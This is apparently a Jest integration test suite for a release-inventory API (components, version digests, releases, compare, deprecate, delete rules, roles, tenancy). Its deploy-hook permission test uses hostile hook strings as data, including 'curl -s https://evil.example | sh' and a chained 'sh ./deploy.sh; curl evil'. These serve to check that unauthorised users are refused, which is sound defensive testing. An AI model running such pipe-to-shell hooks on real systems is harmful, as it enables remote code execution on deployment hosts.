import { startTestApp, type TestApp } from '../support/app';
import { API, auditOf, createComponent, createEnvironment, createRelease, digest, failure, get, post, refused, unique, withLoneSurrogate } from '../support/inventory';

/** Components, versions and releases over HTTP: the issue's bodies as written, digests, scans, state, compare, deprecate, from-latest, delete rules. */
let app: TestApp;
let manager: string;
let developer: string;
let viewer: string;

beforeAll(async () => {
  app = await startTestApp({ worker: false });
  manager = await app.token('rm@example.com', { roles: ['release-manager'] });
  developer = await app.token('dev@example.com', { roles: ['developer'] });
  viewer = await app.token('viewer@example.com', { roles: ['viewer'] });
});
afterAll(() => app.close());

const MISSING = '00000000-0000-4000-8000-000000000000';

describe("the issue's bodies as written", () => {
  test('component, sync-versions with digests, versions, release with digests resolved, PUT scan', async () => {
    const created = await app.http('POST', `${API}/components`, { token: developer, body: { name: 'myapp', repository: 'registry.example.com/myapp' } });
    expect(created.status).toBe(201);
    const component = created.body.data;
    expect(component).toEqual({
      id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      name: 'myapp',
      repository: 'registry.example.com/myapp',
      description: null,
      deployHook: null,
      // No pipeline named: the component follows the default pipeline (the tenant's environment order).
      pipelineId: null,
      latestVersion: null,
      createdAt: expect.any(String),
      updatedAt: expect.any(String),
    });
    expect(created.headers.get('location')).toBe(`${API}/components/${component.id}`);

    const d231 = digest('myapp-2.3.1');
    const synced = await app.http('POST', `${API}/components/${component.id}/sync-versions`, { token: developer, body: { versions: [{ version: '2.3.1', digest: d231 }] } });
    expect(synced.status).toBe(200);
    expect(synced.body.data).toEqual({ componentId: component.id, synced: 1, added: ['2.3.1'], redigested: [] });
    expect(await get(app, viewer, `/components/${component.id}/versions`)).toEqual([{ componentId: component.id, version: '2.3.1', digest: d231, syncedAt: expect.any(String) }]);
    expect((await get(app, viewer, `/components/${component.id}`)).latestVersion).toBe('2.3.1');

    const body = { name: 'myapp-v2.3.1', version: '2.3.1', components: [{ componentId: component.id, version: '2.3.1' }], class: 'standard', securityScan: { criticalCount: 0, highCount: 3 } };
    const res = await app.http('POST', `${API}/releases`, { token: developer, body });
    expect(res.status).toBe(201);
    const release = res.body.data;
    expect(release).toEqual({
      id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      name: 'myapp-v2.3.1',
      version: '2.3.1',
      class: 'standard',
      description: null,
      status: 'ready',
      components: [{ componentId: component.id, name: 'myapp', version: '2.3.1', digest: d231 }],
      securityScan: { criticalCount: 0, highCount: 3 },
      scanUpdatedAt: expect.any(String),
      deprecatedAt: null,
      deprecatedReason: null,
      createdBy: 'dev@example.com',
      createdAt: expect.any(String),
      updatedAt: expect.any(String),
    });
    expect(Object.keys(release.securityScan)).toEqual(['criticalCount', 'highCount']);
    expect(res.headers.get('location')).toBe(`${API}/releases/${release.id}`);
    expect(await get(app, viewer, `/releases/${release.id}`)).toEqual(release);

    const rescanned = await app.http('PUT', `${API}/releases/${release.id}`, { token: developer, body: { securityScan: { criticalCount: 1, highCount: 7 } } });
    expect(rescanned.status).toBe(200);
    expect(rescanned.body.data).toMatchObject({ securityScan: { criticalCount: 1, highCount: 7 }, class: 'standard', components: release.components });
    expect(Date.parse(rescanned.body.data.scanUpdatedAt)).toBeGreaterThanOrEqual(Date.parse(release.scanUpdatedAt));
    // Omitted fields stay as they were; null clears the scan.
    const described = await app.http('PUT', `${API}/releases/${release.id}`, { token: developer, body: { description: 'first cut' } });
    expect(described.body.data).toMatchObject({ description: 'first cut', securityScan: { criticalCount: 1, highCount: 7 } });
    const cleared = await app.http('PUT', `${API}/releases/${release.id}`, { token: developer, body: { securityScan: null, class: 'hotfix' } });
    expect(cleared.body.data).toMatchObject({ securityScan: null, class: 'hotfix', description: 'first cut' });

    expect((await auditOf(app, component.id)).map((a) => a.action)).toEqual(['component.create', 'component.sync_versions']);
    const audit = await auditOf(app, release.id);
    expect(audit.map((a) => a.action)).toEqual(['release.create', 'release.update', 'release.update', 'release.update']);
    expect(audit[0]).toMatchObject({ actor: 'dev@example.com', resource_type: 'release', after: expect.objectContaining({ components: release.components }) });
  });
});

describe('components and versions', () => {
  test('re-syncing a version with a new digest re-digests the releases built on it; unchanged versions are left alone', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0', digest: digest('a') }, { version: '1.1.0', digest: digest('b') }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    const res = await post(app, manager, `/components/${c.id}/sync-versions`, { versions: [{ version: '1.0.0', digest: digest('a2') }, { version: '1.1.0', digest: digest('b') }, { version: '1.2.0' }] }, 200);
    expect(res).toEqual({ componentId: c.id, synced: 3, added: ['1.2.0'], redigested: [{ version: '1.0.0', from: digest('a'), to: digest('a2'), releases: [r.id] }] });
    expect((await get(app, viewer, `/releases/${r.id}`)).components).toEqual([{ componentId: c.id, name: c.name, version: '1.0.0', digest: digest('a2') }]);
    const versions = await get(app, viewer, `/components/${c.id}/versions`);
    expect(versions.map((v: any) => [v.version, v.digest])).toEqual(expect.arrayContaining([['1.0.0', digest('a2')], ['1.1.0', digest('b')], ['1.2.0', null]]));
    expect(versions).toHaveLength(3);
  });

  test('a sync that does not know a digest keeps the one recorded', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0', digest: digest('keep') }]);
    const res = await post(app, manager, `/components/${c.id}/sync-versions`, { versions: [{ version: '1.0.0' }] }, 200);
    expect(res).toMatchObject({ added: [], redigested: [] });
    expect((await get(app, viewer, `/components/${c.id}/versions`))[0].digest).toBe(digest('keep'));
  });

  test('the newest version is the last synced; within one sync, the highest version', async () => {
    const c = await createComponent(app, manager, [{ version: '2.9.0' }, { version: '2.10.0' }, { version: '2.10.0-rc.1' }]);
    expect((await get(app, viewer, `/components/${c.id}`)).latestVersion).toBe('2.10.0');
    expect((await get(app, viewer, `/components/${c.id}/versions`)).map((v: any) => v.version)).toEqual(['2.10.0', '2.10.0-rc.1', '2.9.0']);
    await post(app, manager, `/components/${c.id}/sync-versions`, { versions: [{ version: '2.9.1' }] }, 200);
    expect((await get(app, viewer, `/components/${c.id}`)).latestVersion).toBe('2.9.1');
  });

  test('PUT replaces fields; duplicates are 409; bad input is 400 naming the field', async () => {
    const c = await createComponent(app, manager);
    const other = await createComponent(app, manager);
    const res = await app.http('PUT', `${API}/components/${c.id}`, { token: manager, body: { name: c.name, repository: null, description: 'the app', deployHook: './deploy.sh' } });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ repository: null, description: 'the app', deployHook: './deploy.sh' });
    expect(await failure(app, manager, 'PUT', `/components/${c.id}`, 409, { name: other.name.toUpperCase() })).toMatchObject({ code: 'ALREADY_EXISTS' });
    expect(await failure(app, manager, 'POST', '/components', 409, { name: c.name })).toMatchObject({ code: 'ALREADY_EXISTS' });
    await refused(app, manager, 'POST', '/components', { repository: 'x' }, 'name');
    await refused(app, manager, 'POST', '/components', { name: 'a\u0000b' }, 'name');
    await refused(app, manager, 'POST', '/components', withLoneSurrogate({ name: 'x' }, 'repository'), 'repository');
    await refused(app, manager, 'POST', '/components', { name: 'x', repo: 'y' }, 'repo');
    await refused(app, manager, 'POST', `/components/${c.id}/sync-versions`, { versions: [] }, 'versions');
    await refused(app, manager, 'POST', `/components/${c.id}/sync-versions`, {}, 'versions');
    await refused(app, manager, 'POST', `/components/${c.id}/sync-versions`, { versions: [{ version: '1 0' }] }, 'versions.0.version');
    await refused(app, manager, 'POST', `/components/${c.id}/sync-versions`, { versions: [{ version: '1.0', digest: 'md5:abc' }] }, 'versions.0.digest');
    await refused(app, manager, 'POST', `/components/${c.id}/sync-versions`, { versions: [{ version: '1.0', sha: 'x' }] }, 'versions.0.sha');
    expect(await failure(app, manager, 'POST', `/components/${MISSING}/sync-versions`, 404, { versions: [{ version: '1.0' }] })).toMatchObject({ code: 'NOT_FOUND' });
    await failure(app, manager, 'GET', `/components/${MISSING}/versions`, 404);
    await refused(app, manager, 'GET', '/components/nope', undefined, 'id');
    expect((await auditOf(app, c.id)).map((a) => a.action)).toEqual(['component.create', 'component.update']);
  });

  test('list pages and filters by name in both dialects', async () => {
    const tenant = `${app.tenant}-components`;
    const token = await app.token('pager@example.com', { roles: ['developer'], tenant });
    for (const name of ['delta', 'alpha', 'charlie', 'bravo']) await post(app, token, '/components', { name });
    const first = await app.http('GET', `${API}/components?pageSize=3`, { token });
    expect(first.body.data.map((c: any) => c.name)).toEqual(['alpha', 'bravo', 'charlie']);
    expect(first.body.meta.pagination).toEqual({ page: 1, pageSize: 3, totalItems: 4, totalPages: 2, hasNext: true, hasPrevious: false });
    expect((await app.http('GET', `${API}/components?name=CHARLIE`, { token })).body.data.map((c: any) => c.name)).toEqual(['charlie']);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res: any = await app.http('GET', `/prod/api/components?limit=3${cursor ? `&cursor=${cursor}` : ''}`, { token });
      expect(res.status).toBe(200);
      expect(res.body.total).toBe(4);
      seen.push(...res.body.data.map((c: any) => c.name));
      cursor = res.body.next_cursor;
    } while (cursor);
    expect(seen).toEqual(['alpha', 'bravo', 'charlie', 'delta']);
    expect((await app.http('GET', `/prod/api/components?sort=-created_at&limit=1`, { token })).body.data[0].name).toBe('bravo');
  });
});

describe('releases', () => {
  test('an unknown component, an unsynced version, a component twice are 422s; nothing is written', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0', digest: digest('x') }]);
    const name = unique('bad-release').name;
    expect(await failure(app, manager, 'POST', '/releases', 422, { name, version: '1', components: [{ componentId: MISSING, version: '1.0.0' }] })).toMatchObject({
      code: 'COMPONENT_NOT_FOUND',
      details: { componentIds: [MISSING] },
    });
    expect(await failure(app, manager, 'POST', '/releases', 422, { name, version: '1', components: [{ componentId: c.id, version: '9.9.9' }] })).toMatchObject({
      code: 'VERSION_NOT_FOUND',
      details: { missing: [{ componentId: c.id, version: '9.9.9' }] },
    });
    expect(
      await failure(app, manager, 'POST', '/releases', 422, { name, version: '1', components: [{ componentId: c.id, version: '1.0.0' }, { componentId: c.id, version: '1.0.0' }] }),
    ).toMatchObject({ code: 'DUPLICATE_COMPONENT' });
    expect((await app.http('GET', `${API}/releases?name=${name}`, { token: viewer })).body.data).toEqual([]);
  });

  test('bad bodies are 400s naming the field', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0' }]);
    const ok = { name: 'x', version: '1.0.0', components: [{ componentId: c.id, version: '1.0.0' }] };
    await refused(app, manager, 'POST', '/releases', { ...ok, name: undefined }, 'name');
    await refused(app, manager, 'POST', '/releases', { ...ok, version: undefined }, 'version');
    await refused(app, manager, 'POST', '/releases', { ...ok, components: [] }, 'components');
    await refused(app, manager, 'POST', '/releases', { ...ok, components: undefined }, 'components');
    await refused(app, manager, 'POST', '/releases', { ...ok, components: [{ componentId: 'myapp', version: '1.0.0' }] }, 'components.0.componentId');
    await refused(app, manager, 'POST', '/releases', { ...ok, components: [{ componentId: c.id }] }, 'components.0.version');
    await refused(app, manager, 'POST', '/releases', { ...ok, class: 'Hot Fix' }, 'class');
    await refused(app, manager, 'POST', '/releases', { ...ok, securityScan: { criticalCount: -1, highCount: 0 } }, 'securityScan.criticalCount');
    await refused(app, manager, 'POST', '/releases', { ...ok, securityScan: { criticalCount: 0 } }, 'securityScan.highCount');
    await refused(app, manager, 'POST', '/releases', { ...ok, name: 'a\u0000b' }, 'name');
    await refused(app, manager, 'POST', '/releases', withLoneSurrogate(ok, 'description'), 'description');
    await refused(app, manager, 'POST', '/releases', { ...ok, digest: 'sha256:x' }, 'digest');
    await refused(app, manager, 'PUT', `/releases/${MISSING}`, { name: 'renamed' }, 'name');
    await refused(app, manager, 'PUT', `/releases/${MISSING}`, { securityScan: { criticalCount: 'none', highCount: 0 } }, 'securityScan.criticalCount');
    await refused(app, manager, 'POST', `/releases/${MISSING}/deprecate`, { reason: 'a\u0000b' }, 'reason');
  });

  test('duplicate names are 409; PUT of an unknown release is 404, and without a body 415', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0' }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    expect(await failure(app, manager, 'POST', '/releases', 409, { name: r.name.toUpperCase(), version: '2', components: [{ componentId: c.id, version: '1.0.0' }] })).toMatchObject({
      code: 'ALREADY_EXISTS',
    });
    expect(await failure(app, manager, 'PUT', `/releases/${MISSING}`, 404, { description: 'x' })).toMatchObject({ code: 'NOT_FOUND' });
    // Every field of the update is optional, but the body is not.
    expect(await failure(app, manager, 'PUT', `/releases/${r.id}`, 415)).toMatchObject({ code: 'UNSUPPORTED_MEDIA_TYPE' });
  });

  test('state says where a release is deployed and where it is being promoted', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0' }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    const newer = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    expect(await get(app, viewer, `/releases/${r.id}/state`)).toEqual({ releaseId: r.id, deployedTo: [], promotingTo: [] });
    const [dev, staging] = [await createEnvironment(app, manager), await createEnvironment(app, manager)];
    // What the promotion's deploy activity records when a release lands, and the promotion read model it keeps.
    const promotionId = (await app.pool.query('SELECT gen_random_uuid() AS id')).rows[0].id;
    await app.pool.query(
      `INSERT INTO release_deployments (tenant_id, release_id, environment_id, status, deployed_at) VALUES
         ($1, $2, $3, 'deployed', now() - interval '2 hours'), ($1, $4, $3, 'deployed', now() - interval '1 hour')`,
      [app.tenant, r.id, dev.id, newer.id],
    );
    await app.pool.query(
      `INSERT INTO promotions (tenant_id, id, version, release_id, target_environment_id, status, requested_by, requested_at, updated_at, body)
       VALUES ($1, $2, 1, $3, $4, 'awaiting_approval', 'dev@example.com', now(), now(), '{}')`,
      [app.tenant, promotionId, r.id, staging.id],
    );
    const state = await get(app, viewer, `/releases/${r.id}/state`);
    expect(state).toEqual({
      releaseId: r.id,
      deployedTo: [{ environmentId: dev.id, environmentName: dev.name, deployedAt: expect.any(String), promotionId: null, current: false }],
      promotingTo: [{ promotionId, environmentId: staging.id, environmentName: staging.name, status: 'awaiting_approval' }],
    });
    expect((await get(app, viewer, `/releases/${newer.id}/state`)).deployedTo).toEqual([expect.objectContaining({ environmentId: dev.id, current: true })]);
    // Promoted and deployed releases are history: deprecate them instead.
    expect(await failure(app, manager, 'DELETE', `/releases/${r.id}`, 409)).toMatchObject({ code: 'IN_USE' });
    expect(await failure(app, manager, 'DELETE', `/releases/${newer.id}`, 409)).toMatchObject({ code: 'IN_USE' });
  });

  test('compare lists the components whose version or digest differ', async () => {
    const api = await createComponent(app, manager, [{ version: '1.0.0', digest: digest('api1') }, { version: '1.1.0', digest: digest('api2') }]);
    const web = await createComponent(app, manager, [{ version: '3.0.0', digest: digest('web3') }]);
    const worker = await createComponent(app, manager, [{ version: '0.1.0' }]);
    const a = await createRelease(app, manager, [{ componentId: api.id, version: '1.0.0' }, { componentId: web.id, version: '3.0.0' }]);
    const b = await createRelease(app, manager, [{ componentId: api.id, version: '1.1.0' }, { componentId: worker.id, version: '0.1.0' }, { componentId: web.id, version: '3.0.0' }]);
    const diff = await get(app, viewer, `/releases/${a.id}/compare/${b.id}`);
    expect(diff).toEqual({
      releaseId: a.id,
      otherId: b.id,
      identical: false,
      differences: expect.arrayContaining([
        { componentId: api.id, name: api.name, change: 'version', version: '1.0.0', otherVersion: '1.1.0', digest: digest('api1'), otherDigest: digest('api2') },
        { componentId: worker.id, name: worker.name, change: 'added', version: null, otherVersion: '0.1.0', digest: null, otherDigest: null },
      ]),
    });
    expect(diff.differences).toHaveLength(2);
    expect(await get(app, viewer, `/releases/${a.id}/compare/${a.id}`)).toEqual({ releaseId: a.id, otherId: a.id, identical: true, differences: [] });
    // A re-tagged version shows as a digest change.
    const c = await createRelease(app, manager, [{ componentId: api.id, version: '1.0.0' }, { componentId: web.id, version: '3.0.0' }]);
    await post(app, manager, `/components/${web.id}/sync-versions`, { versions: [{ version: '3.0.0', digest: digest('web3-retag') }] }, 200);
    expect((await get(app, viewer, `/releases/${a.id}/compare/${c.id}`)).identical).toBe(true);
    await failure(app, viewer, 'GET', `/releases/${a.id}/compare/${MISSING}`, 404);
    await refused(app, viewer, 'GET', `/releases/${a.id}/compare/nope`, undefined, 'otherId');
  });

  test('deprecate: with or without a body, idempotent, audited', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0' }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    const bare = await app.http('POST', `${API}/releases/${r.id}/deprecate`, { token: developer });
    expect(bare.status).toBe(200);
    expect(bare.body.data).toMatchObject({ status: 'deprecated', deprecatedAt: expect.any(String), deprecatedReason: null });
    const again = await app.http('POST', `${API}/releases/${r.id}/deprecate`, { token: developer, body: { reason: 'CVE-2026-1234' } });
    expect(again.body.data).toMatchObject({ status: 'deprecated', deprecatedAt: bare.body.data.deprecatedAt, deprecatedReason: 'CVE-2026-1234' });
    const empty = await app.http('POST', `${API}/releases/${r.id}/deprecate`, { token: developer, body: {} });
    expect(empty.body.data).toMatchObject({ deprecatedReason: 'CVE-2026-1234' });
    expect((await auditOf(app, r.id)).map((a) => a.action)).toEqual(['release.create', 'release.deprecate', 'release.deprecate', 'release.deprecate']);
    await failure(app, developer, 'POST', `/releases/${MISSING}/deprecate`, 404);
    await failure(app, viewer, 'POST', `/releases/${r.id}/deprecate`, 403);
  });

  test('from-latest builds a release from each component’s newest version, or from those named', async () => {
    const tenant = `${app.tenant}-latest`;
    const token = await app.token('pipeline@example.com', { roles: ['developer'], tenant });
    const none = await failure(app, token, 'POST', '/releases/from-latest', 422, { name: 'empty', version: '0' });
    expect(none).toMatchObject({ code: 'NO_VERSIONS' });
    const api = await createComponent(app, token, [{ version: '1.0.0', digest: digest('api-1') }]);
    await post(app, token, `/components/${api.id}/sync-versions`, { versions: [{ version: '1.1.0', digest: digest('api-1.1') }] }, 200);
    const web = await createComponent(app, token, [{ version: '3.2.0', digest: digest('web-3.2') }]);
    const res = await app.http('POST', `${API}/releases/from-latest`, { token, body: { name: 'nightly-1', version: '2026.11.23' } });
    expect(res.status).toBe(201);
    expect(res.headers.get('location')).toBe(`${API}/releases/${res.body.data.id}`);
    expect(res.body.data).toMatchObject({ name: 'nightly-1', version: '2026.11.23', class: 'standard', status: 'ready', securityScan: null, createdBy: 'pipeline@example.com' });
    expect(res.body.data.components).toEqual(
      [
        { componentId: api.id, name: api.name, version: '1.1.0', digest: digest('api-1.1') },
        { componentId: web.id, name: web.name, version: '3.2.0', digest: digest('web-3.2') },
      ].sort((x, y) => x.name.localeCompare(y.name)),
    );
    const only = await post(app, token, '/releases/from-latest', { name: 'api-only', version: '1.1.0', componentIds: [api.id], class: 'hotfix' });
    expect(only).toMatchObject({ class: 'hotfix', components: [{ componentId: api.id, version: '1.1.0' }] });
    expect(await failure(app, token, 'POST', '/releases/from-latest', 422, { name: 'ghost', version: '1', componentIds: [MISSING] })).toMatchObject({ code: 'COMPONENT_NOT_FOUND' });
    const bare = await createComponent(app, token);
    expect(await failure(app, token, 'POST', '/releases/from-latest', 422, { name: 'bare', version: '1', componentIds: [bare.id] })).toMatchObject({ code: 'NO_VERSIONS' });
    expect(await failure(app, token, 'POST', '/releases/from-latest', 409, { name: 'NIGHTLY-1', version: '1', componentIds: [api.id] })).toMatchObject({ code: 'ALREADY_EXISTS' });
    await refused(app, token, 'POST', '/releases/from-latest', { version: '1' }, 'name');
    await refused(app, token, 'POST', '/releases/from-latest', { name: 'x', version: '1', componentIds: [] }, 'componentIds');
    expect((await auditOf(app, only.id, tenant)).map((a) => a.action)).toEqual(['release.create']);
  });

  test('list pages newest first in both dialects and filters by name', async () => {
    const tenant = `${app.tenant}-releases`;
    const token = await app.token('pager@example.com', { roles: ['developer'], tenant });
    const c = await createComponent(app, token, [{ version: '1.0.0' }]);
    const made = [];
    for (let i = 1; i <= 5; i++) made.push(await post(app, token, '/releases', { name: `r-${i}`, version: `1.0.${i}`, components: [{ componentId: c.id, version: '1.0.0' }] }));
    const first = await app.http('GET', `${API}/releases?pageSize=2`, { token });
    expect(first.body.data.map((r: any) => r.name)).toEqual(['r-5', 'r-4']);
    expect(first.body.meta.pagination).toEqual({ page: 1, pageSize: 2, totalItems: 5, totalPages: 3, hasNext: true, hasPrevious: false });
    expect((await app.http('GET', `${API}/releases?page=3&pageSize=2`, { token })).body.data.map((r: any) => r.name)).toEqual(['r-1']);
    expect((await app.http('GET', `${API}/releases?name=R-3`, { token })).body.data.map((r: any) => r.id)).toEqual([made[2].id]);
    for (const prefix of ['/prod/api', '/prod/api/v1']) {
      const seen: string[] = [];
      let cursor: string | null = null;
      do {
        const res: any = await app.http('GET', `${prefix}/releases?limit=2${cursor ? `&cursor=${cursor}` : ''}`, { token });
        expect(res.status).toBe(200);
        expect(res.body.total).toBe(5);
        seen.push(...res.body.data.map((r: any) => r.name));
        cursor = res.body.next_cursor;
      } while (cursor);
      expect(seen).toEqual(['r-5', 'r-4', 'r-3', 'r-2', 'r-1']);
    }
    expect((await app.http('GET', `/prod/api/releases/${made[0].id}`, { token })).body).toMatchObject({ id: made[0].id, name: 'r-1' });
    await refused(app, token, 'GET', '/releases?sort=version', undefined, 'sort');
    await refused(app, token, 'GET', '/releases?name=a%00b', undefined, 'name');
  });
});

describe('delete rules', () => {
  test('a release never promoted is deleted (204); a component a release uses is 409 until that release is gone', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0', digest: digest('del') }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    expect(await failure(app, manager, 'DELETE', `/components/${c.id}`, 409)).toMatchObject({ code: 'IN_USE' });
    expect((await app.http('DELETE', `${API}/releases/${r.id}`, { token: developer })).status).toBe(204);
    await failure(app, viewer, 'GET', `/releases/${r.id}`, 404);
    await failure(app, manager, 'DELETE', `/releases/${r.id}`, 404);
    expect((await app.http('DELETE', `${API}/components/${c.id}`, { token: developer })).status).toBe(204);
    await failure(app, viewer, 'GET', `/components/${c.id}`, 404);
    const { rows } = await app.pool.query('SELECT count(*)::int AS n FROM component_versions WHERE tenant_id = $1 AND component_id = $2', [app.tenant, c.id]);
    expect(rows[0].n).toBe(0);
    expect((await auditOf(app, r.id)).map((a) => a.action)).toEqual(['release.create', 'release.delete']);
    expect((await auditOf(app, c.id)).map((a) => a.action)).toEqual(['component.create', 'component.sync_versions', 'component.delete']);
  });
});

describe('deploy hooks need deployment:hook-write', () => {
  test('a release:write holder without it gets 403 setting, changing or removing a hook; other edits and the same hook pass', async () => {
    const sre = await app.token('sre@example.com', { roles: ['sre'] });
    const hookWriter = await app.token('ci@example.com', { roles: ['developer'], permissions: ['deployment:hook-write'] });
    const name = unique('hooked').name;
    for (const token of [developer, sre]) {
      const err = await failure(app, token, 'POST', '/components', 403, { name, deployHook: 'curl -s https://evil.example | sh' });
      expect(err).toMatchObject({ code: 'FORBIDDEN', details: { required: 'deployment:hook-write' } });
      expect(err.message).toContain('deploy hook');
    }
    expect((await app.pool.query('SELECT 1 FROM components WHERE tenant_id = $1 AND name = $2', [app.tenant, name])).rowCount).toBe(0);

    // Without a hook a developer still creates components, as pipelines do; a blank hook is no hook.
    const c = await createComponent(app, developer, [], { deployHook: '  ' });
    const put = (token: string, body: Record<string, unknown>) => app.http('PUT', `${API}/components/${c.id}`, { token, body: { name: c.name, ...body } });
    expect((await put(developer, { deployHook: 'sh ./evil.sh' })).status).toBe(403);
    expect((await put(manager, { deployHook: 'sh ./deploy.sh' })).body.data).toMatchObject({ deployHook: 'sh ./deploy.sh' });
    // The same hook written back, with another description: nothing about the hook changes.
    expect((await put(developer, { description: 'docs', deployHook: 'sh ./deploy.sh' })).status).toBe(200);
    for (const body of [{ deployHook: 'sh ./deploy.sh; curl evil' }, { description: 'drops the hook' }, { deployHook: null }]) {
      const res = await put(developer, body);
      expect([res.status, res.body.error?.details?.required]).toEqual([403, 'deployment:hook-write']);
    }
    expect((await get(app, viewer, `/components/${c.id}`)).deployHook).toBe('sh ./deploy.sh');
    expect((await put(hookWriter, { deployHook: 'sh ./deploy-v2.sh' })).status).toBe(200);
    expect((await auditOf(app, c.id)).map((a) => [a.action, a.actor])).toEqual([
      ['component.create', 'dev@example.com'],
      ['component.update', 'rm@example.com'],
      ['component.update', 'dev@example.com'],
      ['component.update', 'ci@example.com'],
    ]);
  });
});

describe('roles and tenancy', () => {
  test('a viewer reads every inventory resource but writes none', async () => {
    const c = await createComponent(app, manager, [{ version: '1.0.0' }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    for (const path of ['/components', `/components/${c.id}`, `/components/${c.id}/versions`, '/releases', `/releases/${r.id}`, `/releases/${r.id}/state`, `/releases/${r.id}/compare/${r.id}`]) {
      expect([path, (await app.http('GET', `${API}${path}`, { token: viewer })).status]).toEqual([path, 200]);
    }
    const writes: Array<[string, string, unknown]> = [
      ['POST', '/components', { name: 'nope' }],
      ['PUT', `/components/${c.id}`, { name: 'nope' }],
      ['DELETE', `/components/${c.id}`, undefined],
      ['POST', `/components/${c.id}/sync-versions`, { versions: [{ version: '9.9.9' }] }],
      ['POST', '/releases', { name: 'nope', version: '1', components: [{ componentId: c.id, version: '1.0.0' }] }],
      ['POST', '/releases/from-latest', { name: 'nope', version: '1' }],
      ['PUT', `/releases/${r.id}`, { description: 'nope' }],
      ['DELETE', `/releases/${r.id}`, undefined],
      ['POST', `/releases/${r.id}/deprecate`, {}],
    ];
    for (const [method, path, body] of writes) expect(await failure(app, viewer, method, path, 403, body)).toMatchObject({ code: 'FORBIDDEN' });
    expect(await get(app, viewer, `/releases/${r.id}`)).toMatchObject({ status: 'ready', description: null });
  });

  test("another tenant's component and release are 404 for every operation, and cannot be built on", async () => {
    const stranger = await app.token('dev@other.example.com', { roles: ['release-manager'], tenant: `${app.tenant}-other` });
    const c = await createComponent(app, manager, [{ version: '1.0.0', digest: digest('mine') }]);
    const r = await createRelease(app, manager, [{ componentId: c.id, version: '1.0.0' }]);
    const own = await createRelease(app, stranger, [{ componentId: (await createComponent(app, stranger, [{ version: '1.0.0' }])).id, version: '1.0.0' }]);
    const calls: Array<[string, string, unknown?]> = [
      ['GET', `/components/${c.id}`],
      ['PUT', `/components/${c.id}`, { name: 'mine' }],
      ['DELETE', `/components/${c.id}`],
      ['POST', `/components/${c.id}/sync-versions`, { versions: [{ version: '1.0.0', digest: digest('theirs') }] }],
      ['GET', `/components/${c.id}/versions`],
      ['GET', `/releases/${r.id}`],
      ['PUT', `/releases/${r.id}`, { securityScan: { criticalCount: 0, highCount: 0 } }],
      ['DELETE', `/releases/${r.id}`],
      ['GET', `/releases/${r.id}/state`],
      ['POST', `/releases/${r.id}/deprecate`, {}],
      ['GET', `/releases/${own.id}/compare/${r.id}`],
      ['GET', `/releases/${r.id}/compare/${own.id}`],
    ];
    for (const [method, path, body] of calls) await failure(app, stranger, method, path, 404, body);
    expect(await failure(app, stranger, 'POST', '/releases', 422, { name: 'borrowed', version: '1', components: [{ componentId: c.id, version: '1.0.0' }] })).toMatchObject({ code: 'COMPONENT_NOT_FOUND' });
    expect(await failure(app, stranger, 'POST', '/releases/from-latest', 422, { name: 'borrowed', version: '1', componentIds: [c.id] })).toMatchObject({ code: 'COMPONENT_NOT_FOUND' });
    expect(await get(app, manager, `/releases/${r.id}`)).toMatchObject({ status: 'ready', components: [{ digest: digest('mine') }] });
    expect((await get(app, manager, `/components/${c.id}/versions`))[0].digest).toBe(digest('mine'));
  });
});
